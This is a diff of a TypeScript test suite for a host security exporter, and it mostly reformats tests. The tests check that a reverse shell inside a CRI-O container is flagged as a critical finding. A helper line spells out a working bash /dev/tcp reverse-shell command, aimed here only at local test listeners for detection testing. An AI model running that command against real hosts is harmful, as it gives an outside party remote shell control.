@@ -35,7 +35,16 @@ beforeAll(async () => {
   work = tempDir('hostguard-container-network-');
   image = debianImage(work);
   writeFileSync(join(work, 'policy.yml'), policy);
-  const args = ['--collector.disable-defaults', '--collector.processes', '--collector.network', '--findings.show-details', '--state.dir', work, '--config.file', join(work, 'policy.yml')];
+  const args = [
+    '--collector.disable-defaults',
+    '--collector.processes',
+    '--collector.network',
+    '--findings.show-details',
+    '--state.dir',
+    work,
+    '--config.file',
+    join(work, 'policy.yml'),
+  ];
   exporter = await startExporter(args, { spawn: spawnForFile });
 }, 120_000);
 
@@ -89,7 +98,12 @@ async function shellListener(host: string): Promise<{ port: number; answered: Pr
 const reverseShell = (host: string, port: number) => ['/bin/bash', '-c', `exec /bin/sh 0<>/dev/tcp/${host}/${port} 1>&0 2>&0`];
 
 function cartContainer(network: 'host' | { path: string }): TestContainer {
-  return startContainer(image, work, { args: ['/bin/sleep', '100000'], cgroup: crioCgroup(pod.uid), annotations: crioAnnotations(pod, 'cart', podImage), network });
+  return startContainer(image, work, {
+    args: ['/bin/sleep', '100000'],
+    cgroup: crioCgroup(pod.uid),
+    annotations: crioAnnotations(pod, 'cart', podImage),
+    network,
+  });
 }
 
 async function shellFinding(container: TestContainer): Promise<{ finding: Finding; all: Finding[] }> {
@@ -101,7 +115,7 @@ async function shellFinding(container: TestContainer): Promise<{ finding: Findin
 }
 
 describe('a reverse shell inside a container', () => {
-  it('sharing the host\'s network: found in the host\'s tables, a critical shell_on_socket naming the container and its pod', async () => {
+  it("sharing the host's network: found in the host's tables, a critical shell_on_socket naming the container and its pod", async () => {
     const container = cartContainer('host');
     const { port, answered } = await shellListener('127.0.0.1');
     const pid = container.execDetached(reverseShell('127.0.0.1', port));
@@ -110,15 +124,27 @@ describe('a reverse shell inside a container', () => {
     const { finding, all } = await shellFinding(container);
     expect(finding).toMatchObject({
       severity: 'critical',
-      subject: { direction: 'outgoing', remote_address: '127.0.0.1', port, container_runtime: 'cri-o', container: 'cart', image: podImage, pod_uid: pod.uid, pod_namespace: pod.namespace, pod: pod.name },
+      subject: {
+        direction: 'outgoing',
+        remote_address: '127.0.0.1',
+        port,
+        container_runtime: 'cri-o',
+        container: 'cart',
+        image: podImage,
+        pod_uid: pod.uid,
+        pod_namespace: pod.namespace,
+        pod: pod.name,
+      },
     });
-    expect(finding.message).toContain(`(pid ${pid}, in cri-o container ${short(container.id)} (cart, image ${podImage}, pod shop/${pod.name})) has its standard input, output and error on a tcp connection it opened to 127.0.0.1:${port}`);
+    expect(finding.message).toContain(
+      `(pid ${pid}, in cri-o container ${short(container.id)} (cart, image ${podImage}, pod shop/${pod.name})) has its standard input, output and error on a tcp connection it opened to 127.0.0.1:${port}`,
+    );
     // The host's network: the socket is in the host's table (not read from the container's namespace).
     expect(finding.message).not.toContain('network namespace');
     expect(all.map((f) => f.kind)).toEqual(['shell_on_socket']);
   }, 120_000);
 
-  it('in a network namespace of its own, reached over a veth: found in that namespace\'s tables, the container named', async () => {
+  it("in a network namespace of its own, reached over a veth: found in that namespace's tables, the container named", async () => {
     const remote = remoteHost();
     const container = cartContainer({ path: `/var/run/netns/${remote.namespace}` });
     const { port, answered } = await shellListener(remote.hostAddress);
@@ -126,7 +152,10 @@ describe('a reverse shell inside a container', () => {
     await answered;
     // The shell's socket is listed in its namespace's table, not in the host's /proc/net.
     const inode = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/0`))![1]!;
-    const listed = (table: string) => readFileSync(table, 'utf8').split('\n').some((l) => l.trim().split(/\s+/)[9] === inode);
+    const listed = (table: string) =>
+      readFileSync(table, 'utf8')
+        .split('\n')
+        .some((l) => l.trim().split(/\s+/)[9] === inode);
     expect(listed(`/proc/${pid}/net/tcp`)).toBe(true);
     expect(listed('/proc/net/tcp')).toBe(false);
     const netns = readlinkSync(`/proc/${pid}/ns/net`);
@@ -135,9 +164,18 @@ describe('a reverse shell inside a container', () => {
     const { finding, all } = await shellFinding(container);
     expect(finding).toMatchObject({
       severity: 'critical',
-      subject: { direction: 'outgoing', remote_address: remote.hostAddress, port, container_runtime: 'cri-o', image: podImage, pod_uid: pod.uid },
+      subject: {
+        direction: 'outgoing',
+        remote_address: remote.hostAddress,
+        port,
+        container_runtime: 'cri-o',
+        image: podImage,
+        pod_uid: pod.uid,
+      },
     });
-    expect(finding.message).toContain(`(pid ${pid}, in cri-o container ${short(container.id)} (cart, image ${podImage}, pod shop/${pod.name}))`);
+    expect(finding.message).toContain(
+      `(pid ${pid}, in cri-o container ${short(container.id)} (cart, image ${podImage}, pod shop/${pod.name}))`,
+    );
     expect(finding.message).toContain(`: a reverse shell (in network namespace ${netns})`);
     expect(all.map((f) => f.kind)).toEqual(['shell_on_socket']);
   }, 120_000);
